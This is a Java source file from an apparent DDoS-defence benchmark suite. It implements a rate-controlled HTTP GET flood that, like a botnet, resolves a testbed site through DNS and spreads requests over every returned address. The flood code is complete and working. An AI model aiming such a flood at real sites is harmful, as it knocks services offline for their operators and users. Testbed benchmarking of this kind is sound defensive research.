package org.xenoservice.benchmarks.attack;

import java.net.InetAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;

/**
 * The flood: an open-loop HTTP GET flood at a fixed rate, from {@code --from} to {@code --until}
 * (epoch milliseconds), of the site's pages. Like a botnet that targets the name, it resolves the
 * site through the testbed's BIND, honours the TTL, and spreads its requests over every address in
 * the answer. At most {@code --max-in-flight} requests are outstanding; a request it cannot send
 * because of that cap is logged as failed (status 0, "in-flight cap"). One line per request in
 * {@code --log}.
 *
 * <pre>{@code
 * java -cp benchmarks.jar org.xenoservice.benchmarks.attack.Attacker --dns 10.77.0.53 --site www.books.example \
 *     --port 80 --paths /,/books/a.html --rate 2000 --from EPOCHMS --until EPOCHMS --log attacker.csv
 * }</pre>
 */
public final class Attacker {
    private static final long TICK_MILLIS = 5;

    private Attacker() {}

    /** Runs the flood; see the class comment for the arguments. */
    public static void main(String[] argv) throws Exception {
        System.setProperty("jdk.httpclient.allowRestrictedHeaders", "host");
        Args args = new Args(argv);
        String site = args.get("site");
        int port = (int) args.getLong("port", 80);
        List<String> paths = args.getList("paths");
        double rate = Double.parseDouble(args.get("rate"));
        long from = args.getLong("from");
        long until = args.getLong("until");
        int maxInFlight = (int) args.getLong("max-in-flight", 4000);
        Duration timeout = Duration.ofMillis(args.getLong("timeout-ms", 5000));
        Random random = new Random(args.getLong("seed", 666));
        ExecutorService executor = Executors.newFixedThreadPool(4, runnable -> {
            Thread thread = new Thread(runnable, "attacker-http");
            thread.setDaemon(true);
            return thread;
        });
        HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .executor(executor)
                .connectTimeout(timeout)
                .build();
        Semaphore inFlight = new Semaphore(maxInFlight);
        try (RequestLog log = new RequestLog(Path.of(args.get("log")))) {
            TtlResolver resolver = new TtlResolver(args.dnsServer(), site, log::dns);
            Args.sleepUntil(from);
            long start = System.nanoTime();
            long sent = 0;
            while (System.currentTimeMillis() < until) {
                long due = (long) ((System.nanoTime() - start) / 1e9 * rate);
                for (; sent < due; sent++) {
                    List<InetAddress> addresses = resolver.addresses();
                    long now = System.currentTimeMillis();
                    if (addresses.isEmpty()) {
                        log.add(now, "flood", "-", 0, 0, "no address");
                        continue;
                    }
                    String address =
                            addresses.get(random.nextInt(addresses.size())).getHostAddress();
                    if (!inFlight.tryAcquire()) {
                        log.add(now, "flood", address, 0, 0, "in-flight cap");
                        continue;
                    }
                    String path = paths.get(random.nextInt(paths.size()));
                    HttpRequest request = HttpRequest.newBuilder(URI.create("http://" + address + ":" + port + path))
                            .header("Host", site)
                            .header("User-Agent", "flood/1.0")
                            .timeout(timeout)
                            .GET()
                            .build();
                    long begin = System.nanoTime();
                    CompletableFuture<?> unused = http.sendAsync(request, HttpResponse.BodyHandlers.discarding())
                            .whenComplete((response, failure) -> {
                                inFlight.release();
                                double millis = (System.nanoTime() - begin) / 1e6;
                                if (failure != null) {
                                    Throwable cause = failure.getCause() == null ? failure : failure.getCause();
                                    log.add(
                                            now,
                                            "flood",
                                            address,
                                            0,
                                            millis,
                                            cause.getClass().getSimpleName());
                                } else {
                                    log.add(now, "flood", address, response.statusCode(), millis, "");
                                }
                            });
                }
                Thread.sleep(TICK_MILLIS);
            }
            // Let what is in flight finish or time out (bounded by the request timeout).
            inFlight.tryAcquire(maxInFlight, timeout.toMillis() + 2000, TimeUnit.MILLISECONDS);
            System.out.printf(
                    "attacker: %d requests sent at %.0f/s, DNS queries %d (failed %d)%n",
                    sent, rate, resolver.queries(), resolver.failures());
        } finally {
            executor.shutdownNow();
        }
    }
}
